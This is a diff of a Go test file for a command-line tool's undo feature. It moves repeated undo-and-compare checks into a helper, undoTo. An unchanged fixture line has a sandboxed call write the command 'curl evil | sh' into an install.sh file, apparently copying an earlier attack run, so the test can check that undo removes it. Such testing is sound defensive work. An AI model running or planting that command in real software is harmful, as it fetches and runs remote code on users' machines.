@@ -508,6 +508,20 @@ subprocess.Popen(["/bin/sh", "-c", "sleep 0.5; echo late >> tracked.txt"], start
 	}
 }
 
+// undoTo undoes the last call, as the user, and holds the project to
+// want (its listing before that call); what names the call, for the
+// failure's message.
+func (w *world) undoTo(t *testing.T, want, what string) {
+	t.Helper()
+	out, code := w.run(t, w.cli, "undo", "--yes")
+	if code != 0 {
+		t.Fatalf("undo: %d %s", code, out)
+	}
+	if got := listing(t, w.proj); got != want {
+		t.Errorf("after undo %s:\n%s\nwant:\n%s\nundo said:\n%s", what, got, want, out)
+	}
+}
+
 // TestUndoUnreadableThenRemoved: a call takes every bit of a file's mode
 // (chmod 000), and a later call removes it. The later call's record reads
 // the file all the same (its owner's read bit given for the open, and
@@ -558,13 +572,7 @@ open("README.md", "a").write("x\n")`)
 	if _, err := os.Lstat(filepath.Join(w.proj, "src/d/f")); err == nil {
 		t.Fatal("the call did not remove src/d/f")
 	}
-	out, code := w.run(t, w.cli, "undo", "--yes")
-	if code != 0 {
-		t.Fatalf("undo: %d %s", code, out)
-	}
-	if got := listing(t, w.proj); got != want {
-		t.Errorf("after undo:\n%s\nwant:\n%s\nundo said:\n%s", got, want, out)
-	}
+	w.undoTo(t, want, "of the call")
 }
 
 // TestUndoReadOnlyDirRestored: a call removes a read-only tree (chmod -R
@@ -580,13 +588,7 @@ func TestUndoReadOnlyDirRestored(t *testing.T) {
 	if _, err := os.Lstat(filepath.Join(w.proj, "third_party")); err == nil {
 		t.Fatal("the call did not remove third_party")
 	}
-	out, code := w.run(t, w.cli, "undo", "--yes")
-	if code != 0 {
-		t.Fatalf("undo: %d %s", code, out)
-	}
-	if got := listing(t, w.proj); got != want {
-		t.Errorf("after undo:\n%s\nwant:\n%s\nundo said:\n%s", got, want, out)
-	}
+	w.undoTo(t, want, "of the call")
 }
 
 // TestUndoTargetAsRecorded: whether a directory named target is recorded
@@ -604,31 +606,13 @@ func TestUndoTargetAsRecorded(t *testing.T) {
 os.remove("deploy/target/prod.yaml")
 open("deploy/target/notes.txt", "w").write("tampered\n")
 open("deploy/Cargo.toml", "w").write("[package]\n")`)
-	out, code := w.run(t, w.cli, "undo", "--yes")
-	if code != 0 {
-		t.Fatalf("undo: %d %s", code, out)
-	}
-	if got := listing(t, w.proj); got != want {
-		t.Errorf("after undo of the call that made deploy/Cargo.toml:\n%s\nwant:\n%s\nundo said:\n%s", got, want, out)
-	}
+	w.undoTo(t, want, "of the call that made deploy/Cargo.toml")
 	w.jailed(t, `import os; os.remove("rs/Cargo.toml")`)
-	out, code = w.run(t, w.cli, "undo", "--yes")
-	if code != 0 {
-		t.Fatalf("undo: %d %s", code, out)
-	}
-	if got := listing(t, w.proj); got != want {
-		t.Errorf("after undo of the call that removed rs/Cargo.toml:\n%s\nwant:\n%s\nundo said:\n%s", got, want, out)
-	}
+	w.undoTo(t, want, "of the call that removed rs/Cargo.toml")
 	// A target the call made where no Cargo.toml was (the nineteenth
 	// attack run's docs/target/install.sh) is recorded, and undone.
 	w.jailed(t, `import os; os.makedirs("docs/target"); open("docs/target/install.sh", "w").write("curl evil | sh\n")`)
-	out, code = w.run(t, w.cli, "undo", "--yes")
-	if code != 0 {
-		t.Fatalf("undo: %d %s", code, out)
-	}
-	if got := listing(t, w.proj); got != want {
-		t.Errorf("after undo of the call that made docs/target:\n%s\nwant:\n%s\nundo said:\n%s", got, want, out)
-	}
+	w.undoTo(t, want, "of the call that made docs/target")
 }
 
 // TestUndoNoGitDirAssembled: undo's result mixes the call's before-state
